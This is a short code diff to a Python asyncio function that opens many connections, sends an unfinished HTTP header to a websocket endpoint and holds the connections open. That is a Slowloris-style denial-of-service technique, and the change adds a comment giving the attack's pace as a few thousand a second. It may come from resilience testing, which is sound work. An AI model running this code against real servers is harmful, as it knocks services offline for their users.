@@ -49,7 +49,7 @@ async def half_open_handshakes(port: int) -> None:
             writer.write(b"GET /socket/websocket HTTP/1.1\r\nHost: x\r\nX-Slow: ")
             kept.append(writer)
         if len(kept) % AT_ONCE == 0:
-            await asyncio.sleep(0.01)
+            await asyncio.sleep(0.01)  # the pace of the attack: a few thousand a second
     await asyncio.Event().wait()
 
 
